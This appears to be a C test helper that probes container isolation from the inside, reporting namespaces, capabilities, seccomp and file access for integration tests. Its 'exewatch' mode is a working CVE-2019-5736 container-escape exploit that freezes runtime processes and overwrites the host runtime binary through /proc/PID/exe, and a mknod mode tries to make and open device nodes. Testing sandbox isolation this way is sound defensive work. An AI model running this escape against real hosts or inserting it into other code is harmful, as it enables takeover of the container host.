/* cvb-probe: a static helper that runs inside test containers and reports what it sees, one
 * "key value" line per fact, so that the integration tests can check isolation from the inside.
 *
 *   cvb-probe report [PATH...]   pid, hostname, cwd, uid/gid, fds, processes, network devices,
 *                                capabilities, no_new_privs, seccomp, nofile limit, and for each
 *                                PATH whether it exists ("path PATH yes|no").
 *   cvb-probe read PATH          prints the file's first line ("read PATH <line>|<errno>")
 *   cvb-probe write PATH         tries to create PATH ("write PATH ok|<errno>")
 *   cvb-probe sleep SECONDS ...  sleeps (extra args are markers the tests look for)
 *   cvb-probe alloc MIB          touches MIB MiB of memory, prints "alloc done"
 *   cvb-probe exit CODE          exits with CODE
 *   cvb-probe mknod PATH MAJ MIN makes a character device, then opens it read-write
 *                                ("mknod PATH ok|errno=N", "open PATH ok|errno=N")
 *   cvb-probe exewatch SECONDS   the CVE-2019-5736 attacker: stops every process that appears
 *                                in its pid namespace, reads its exe link, opens it O_PATH and
 *                                for writing, kills it, then keeps trying to overwrite the
 *                                binaries it holds until SECONDS pass ("caught PID exe=...",
 *                                "exe-path PID ok|errno=N", "exe-write PID ok|errno=N",
 *                                "exe-overwrite PID ok|errno=N", "exewatch done caught=N")
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <signal.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

static int is_number(const char* s) {
  if (!*s) return 0;
  for (; *s; ++s)
    if (*s < '0' || *s > '9') return 0;
  return 1;
}

static void status_field(const char* key) {
  FILE* f = fopen("/proc/self/status", "r");
  if (!f) return;
  char line[256];
  size_t n = strlen(key);
  while (fgets(line, sizeof line, f)) {
    if (strncmp(line, key, n) == 0 && line[n] == ':') {
      char* v = line + n + 1;
      while (*v == ' ' || *v == '\t') ++v;
      v[strcspn(v, "\n")] = 0;
      printf("%s %s\n", key, v);
    }
  }
  fclose(f);
}

static int report(int argc, char** argv) {
  char buf[4096];
  printf("pid %d\n", getpid());
  if (gethostname(buf, sizeof buf) == 0) printf("hostname %s\n", buf);
  if (getcwd(buf, sizeof buf)) printf("cwd %s\n", buf);
  printf("uid %d\ngid %d\n", getuid(), getgid());
  DIR* d = opendir("/proc/self/fd");
  if (d) {
    int self = dirfd(d);
    struct dirent* e;
    while ((e = readdir(d))) {
      if (!is_number(e->d_name) || atoi(e->d_name) == self) continue;
      char path[300], target[4096];
      snprintf(path, sizeof path, "/proc/self/fd/%s", e->d_name);
      ssize_t n = readlink(path, target, sizeof target - 1);
      target[n > 0 ? n : 0] = 0;
      printf("fd %s %s\n", e->d_name, target);
    }
    closedir(d);
  }
  int procs = 0;
  d = opendir("/proc");
  if (d) {
    struct dirent* e;
    while ((e = readdir(d)))
      if (is_number(e->d_name)) ++procs;
    closedir(d);
  }
  printf("processes %d\n", procs);
  FILE* f = fopen("/proc/net/dev", "r");
  if (f) {
    char line[512];
    while (fgets(line, sizeof line, f)) {
      char* colon = strchr(line, ':');
      if (!colon) continue;
      *colon = 0;
      char* name = line;
      while (*name == ' ') ++name;
      printf("netdev %s\n", name);
    }
    fclose(f);
  }
  char ns[128];
  ssize_t nslen = readlink("/proc/self/ns/net", ns, sizeof ns - 1);
  if (nslen > 0) ns[nslen] = 0, printf("netns %s\n", ns);
  FILE* cg = fopen("/proc/self/cgroup", "r");
  if (cg) {
    char line[512];
    while (fgets(line, sizeof line, cg))
      if (strncmp(line, "0::", 3) == 0) line[strcspn(line, "\n")] = 0, printf("cgroup2 %s\n", line + 3);
    fclose(cg);
  }
  static const char* const kNamespaces[] = {"user", "ipc", "uts", "net", "cgroup", "pid", "mnt"};
  for (size_t i = 0; i < sizeof kNamespaces / sizeof kNamespaces[0]; ++i) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/ns/%s", kNamespaces[i]);
    ssize_t len = readlink(path, ns, sizeof ns - 1);
    if (len > 0) ns[len] = 0, printf("ns %s %s\n", kNamespaces[i], ns);
  }
  cg = fopen("/proc/self/cgroup", "r");
  if (cg) {
    char line[512];
    while (fgets(line, sizeof line, cg)) line[strcspn(line, "\n")] = 0, printf("cgroup %s\n", line);
    fclose(cg);
  }
  status_field("CapEff");
  status_field("CapBnd");
  status_field("NoNewPrivs");
  status_field("Seccomp");
  status_field("Seccomp_filters");
  struct rlimit rl;
  if (getrlimit(RLIMIT_NOFILE, &rl) == 0)
    printf("nofile %llu %llu\n", (unsigned long long)rl.rlim_cur, (unsigned long long)rl.rlim_max);
  for (int i = 0; i < argc; ++i) {
    struct stat st;
    printf("path %s %s\n", argv[i], lstat(argv[i], &st) == 0 ? "yes" : "no");
  }
  return 0;
}

static long long now_ms(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (long long)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

/* CVE-2019-5736 from inside: a runtime process that is visible in the container and whose
 * /proc/PID/exe can be opened gives the container its binary; once no process runs it any more
 * (ETXTBSY gone) a write through the held O_PATH fd replaces the runtime on the host. */
static int exewatch(int seconds) {
  enum { kMax = 256 };
  int seen[kMax], held_pid[kMax], held_fd[kMax], done[kMax];
  int n_seen = 0, n_held = 0, caught = 0;
  long long deadline = now_ms() + seconds * 1000LL;
  printf("watching\n");
  while (now_ms() < deadline) {
    DIR* d = opendir("/proc");
    if (!d) return 1;
    struct dirent* e;
    while ((e = readdir(d))) {
      if (!is_number(e->d_name)) continue;
      int pid = atoi(e->d_name);
      if (pid == 1 || pid == getpid()) continue;
      int known = 0;
      for (int i = 0; i < n_seen; ++i) known |= seen[i] == pid;
      if (known || n_seen == kMax) continue;
      seen[n_seen++] = pid;
      kill(pid, SIGSTOP);
      ++caught;
      char path[64], target[4096];
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      ssize_t n = readlink(path, target, sizeof target - 1);
      if (n >= 0) target[n] = 0, printf("caught %d exe=%s\n", pid, target);
      else printf("caught %d exe=errno=%d\n", pid, errno);
      int fd = open(path, O_PATH | O_CLOEXEC);
      if (fd >= 0 && n_held < kMax) {
        printf("exe-path %d ok\n", pid);
        held_pid[n_held] = pid, held_fd[n_held] = fd, done[n_held] = 0, ++n_held;
      } else {
        printf("exe-path %d errno=%d\n", pid, errno);
      }
      int w = open(path, O_WRONLY | O_CLOEXEC);
      if (w >= 0) printf("exe-write %d ok\n", pid), close(w);
      else printf("exe-write %d errno=%d\n", pid, errno);
      kill(pid, SIGKILL);
    }
    closedir(d);
    for (int i = 0; i < n_held; ++i) {
      if (done[i]) continue;
      char path[64];
      snprintf(path, sizeof path, "/proc/self/fd/%d", held_fd[i]);
      int w = open(path, O_WRONLY | O_CLOEXEC);
      if (w < 0) continue;  /* ETXTBSY while a runtime process still runs it: retry */
      if (pwrite(w, "PWND", 4, 0) == 4) printf("exe-overwrite %d ok\n", held_pid[i]), done[i] = 1;
      else printf("exe-overwrite %d errno=%d\n", held_pid[i], errno), done[i] = 1;
      close(w);
    }
  }
  for (int i = 0; i < n_held; ++i) {
    if (done[i]) continue;
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", held_fd[i]);
    int w = open(path, O_WRONLY | O_CLOEXEC);
    if (w < 0) {
      printf("exe-overwrite %d errno=%d\n", held_pid[i], errno);
      continue;
    }
    if (pwrite(w, "PWND", 4, 0) == 4) printf("exe-overwrite %d ok\n", held_pid[i]);
    else printf("exe-overwrite %d errno=%d\n", held_pid[i], errno);
    close(w);
  }
  printf("exewatch done caught=%d\n", caught);
  return 0;
}

int main(int argc, char** argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc < 2) return 2;
  const char* cmd = argv[1];
  if (strcmp(cmd, "report") == 0) return report(argc - 2, argv + 2);
  if (strcmp(cmd, "read") == 0 && argc > 2) {
    FILE* f = fopen(argv[2], "r");
    if (!f) {
      printf("read %s errno=%d\n", argv[2], errno);
      return 0;
    }
    char line[1024] = "";
    if (!fgets(line, sizeof line, f)) line[0] = 0;
    line[strcspn(line, "\n")] = 0;
    printf("read %s %s\n", argv[2], line);
    fclose(f);
    return 0;
  }
  if (strcmp(cmd, "write") == 0 && argc > 2) {
    int fd = open(argv[2], O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
    if (fd < 0) printf("write %s errno=%d\n", argv[2], errno);
    else printf("write %s ok\n", argv[2]), close(fd);
    return 0;
  }
  if (strcmp(cmd, "sleep") == 0 && argc > 2) {
    printf("sleeping\n");
    sleep((unsigned)atoi(argv[2]));
    return 0;
  }
  if (strcmp(cmd, "alloc") == 0 && argc > 2) {
    size_t mib = (size_t)atoi(argv[2]);
    for (size_t i = 0; i < mib; ++i) {
      char* p = malloc(1 << 20);
      if (!p) return 3;
      memset(p, 1, 1 << 20);
    }
    printf("alloc done\n");
    return 0;
  }
  if (strcmp(cmd, "exit") == 0 && argc > 2) return atoi(argv[2]);
  if (strcmp(cmd, "exewatch") == 0 && argc > 2) return exewatch(atoi(argv[2]));
  if (strcmp(cmd, "mknod") == 0 && argc > 4) {
    dev_t dev = makedev((unsigned)atoi(argv[3]), (unsigned)atoi(argv[4]));
    if (mknod(argv[2], S_IFCHR | 0600, dev) != 0)
      printf("mknod %s errno=%d\n", argv[2], errno);
    else
      printf("mknod %s ok\n", argv[2]);
    int fd = open(argv[2], O_RDWR | O_CLOEXEC);
    if (fd < 0)
      printf("open %s errno=%d\n", argv[2], errno);
    else
      printf("open %s ok\n", argv[2]), close(fd);
    return 0;
  }
  return 2;
}
